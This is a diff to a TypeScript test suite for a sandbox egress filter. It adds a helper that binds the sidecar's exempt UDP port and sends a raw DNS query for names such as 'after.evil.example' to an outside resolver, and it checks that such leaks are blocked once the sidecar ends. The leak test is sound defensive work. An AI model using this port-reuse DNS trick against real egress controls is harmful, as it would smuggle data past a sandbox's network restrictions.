@@ -258,16 +258,39 @@ t.test('a sidecar was killed, and the sandbox has its port: the next one does no
   t.equal(await arrived(space), start)
 })
 
+/** A port from which the sidecar's own questions may leave. */
+async function exemptPort(space: Namespaces): Promise<string> {
+  return /udp sport \{ (\d+)/.exec(await space.run('nft', 'list', 'chain', 'inet', 'opensandbox', 'exempt'))?.[1] ?? ''
+}
+
+/** Sends a question to the resolver from that port, as whoever has it may. */
+function askFrom(space: Namespaces, port: string, name: string): Promise<unknown> {
+  return space.run('python3', '-c', `import socket
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(("0.0.0.0",${port}))
+try: s.sendto(b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"+b"".join(bytes([len(p)])+p.encode() for p in "${name}".split("."))+b"\\0\\0\\1\\0\\1",("${outside.v4}",53))
+except OSError: pass`)
+}
+
+t.test('a sidecar that ends as it is told takes its way out along, and leaves the rest', async (t) => {
+  await using space = await createNamespaces()
+  const first = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
+  await space.ask({ ask: 'ip-198-18-7-7.ok.example' })
+  const port = await exemptPort(space)
+  t.match(port, /^\d+$/)
+  t.equal(await first.end('SIGTERM'), 0)
+  await askFrom(space, port, 'after.evil.example')
+  t.same(await results(space, { connect: '198.18.7.7' }, { connect: outside.other }), ['open', refused])
+  await arrived(space)
+  t.notOk(space.seen.some((line) => line.saw === 'dns' && line.name === 'after.evil.example'), 'whoever binds its port right behind it gets nowhere')
+})
+
 t.test('a sidecar that died without a word: its way out closes by itself, and nobody in its place keeps the next one from closing the rest', async (t) => {
   await using space = await createNamespaces()
   const first = await space.startSidecar({ OPENSANDBOX_EGRESS_RULES: policy('*.ok.example') })
   await space.ask({ ask: 'ip-198-18-7-7.ok.example' })
-  const [, port = ''] = /udp sport \{ (\d+)/.exec(await space.run('nft', 'list', 'chain', 'inet', 'opensandbox', 'exempt')) ?? []
+  const port = await exemptPort(space)
   await first.end('SIGKILL')
-  const leak = (name: string): Promise<unknown> => space.run('python3', '-c', `import socket
-s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(("0.0.0.0",${port}))
-try: s.sendto(b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"+b"".join(bytes([len(p)])+p.encode() for p in "${name}".split("."))+b"\\0\\0\\1\\0\\1",("${outside.v4}",53))
-except OSError: pass`)
+  const leak = (name: string): Promise<unknown> => askFrom(space, port, name)
   const heard = (name: string): boolean => space.seen.some((line) => line.saw === 'dns' && line.name === name)
   await leak('soon.evil.example')
   await arrived(space)
